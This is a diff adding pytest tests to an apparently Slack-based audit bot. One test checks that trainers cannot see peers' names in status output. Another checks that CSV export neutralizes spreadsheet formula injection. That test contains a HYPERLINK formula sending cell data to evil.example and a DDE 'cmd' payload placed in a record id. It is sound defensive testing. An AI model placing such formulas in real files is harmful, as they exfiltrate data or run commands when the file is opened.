@@ -10,7 +10,7 @@ import pytest
 from sqlalchemy import event
 from sqlmodel import Session, select
 
-from bot.models import AuditThread, OutboxItem
+from bot.models import AuditThread, Grade, OutboxItem
 from bot.models_people import AwayPeriod, TrainerPause
 from bot.services.commands import Usage, no_args
 from handlers.commands import SUBCOMMANDS, Subcommand, add_subcommand
@@ -100,6 +100,24 @@ def test_status_shows_each_task_type(team: RunningBot):
     assert text.count("reviewer agreement –") == 2  # no double reviews yet, so no alpha
     assert "failed for good" not in text
     assert len(answer.blocks) <= 50
+
+
+def test_a_trainer_s_status_names_no_peer_on_watch_or_escalated(team: RunningBot):
+    """`/audit status @peer` is refused to a trainer, so `/audit status` names no peer
+    either: the peer is an aggregate (a count); the people allowed still see the name."""
+    peer = shown(ask(team, TRAINER2, "status"))
+    assert "👀 Watch: 1 trainer" in peer and TRAINER1 not in peer, peer
+    assert f"👀 Watch: <@{TRAINER1}>" in shown(ask(team, TRAINER1, "status"))  # themself
+    for allowed in (LEAD, NURSE, MANAGER):  # their lead; a clinical reviewer; a manager
+        assert f"👀 Watch: <@{TRAINER1}>" in shown(ask(team, allowed, "status"))
+    assert TRAINER1 not in shown(ask(team, LAWYER, "status"))  # reviews legal only
+
+    audited_weeks(team, [["major"] * 5, ["major"] * 5])
+    run_escalation_check(team.ctx, now=team.ctx.clock.now())
+    team.deliver()
+    peer = shown(ask(team, TRAINER2, "status"))
+    assert "⚠️ Escalated: 1 trainer" in peer and TRAINER1 not in peer, peer
+    assert f"⚠️ Escalated: <@{TRAINER1}>" in shown(ask(team, LEAD, "status"))
 
 
 def test_someone_not_in_the_config_is_refused(team: RunningBot):
@@ -270,6 +288,37 @@ def test_export_sends_the_windows_grades_as_csv_to_the_managers_dm(team: Running
                           for r in majors)
     assert {r["trainer"] for r in rows} == {TRAINER1}
     assert "Only managers can export" in ask(team, LEAD, "export").text
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Details on the dose error")'
+
+
+def test_export_neutralizes_what_a_spreadsheet_would_run_as_a_formula(bot: RunningBot):
+    records = week_of_records(bot.ctx.clock.now(), count=2)
+    records[0]["id"] = "=cmd|' /C calc'!A0"
+    bot.ingest(records)
+    bot.run_audit()
+    first, second = [r for r in bot.thread_replies(CLINICAL_CHANNEL)
+                     if "Major error" in buttons(r)]
+    bot.driver.click(NURSE, first, "Major error", channel=CLINICAL_CHANNEL)
+    modal = bot.driver.wait_for(lambda: bot.driver.open_modal(NURSE))
+    answer = bot.driver.submit_view(NURSE, modal, {"category": "Unsafe advice",
+                                                   "explanation": FORMULA})
+    assert answer.status == 200
+    bot.driver.click(NURSE, second, "Pass", channel=CLINICAL_CHANNEL)
+
+    def graded() -> bool:
+        with Session(bot.ctx.engine) as session:
+            return len(session.exec(select(Grade)).all()) == 2
+    bot.driver.wait_for(graded)
+    assert "(2 grades," in ask(bot, MANAGER, "export").text
+    [export] = bot.sandbox.files(MANAGER)
+    rows = list(csv.DictReader(io.StringIO(export.data.decode("utf-8"), newline="")))
+    assert sorted(r["explanation"] for r in rows) == ["", f"'{FORMULA}"]
+    assert sorted(r["output_id"] for r in rows) == sorted(
+        ["'=cmd|' /C calc'!A0", records[1]["id"]])
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
 
 
 # --- the 3-second rule ------------------------------------------------------------------------
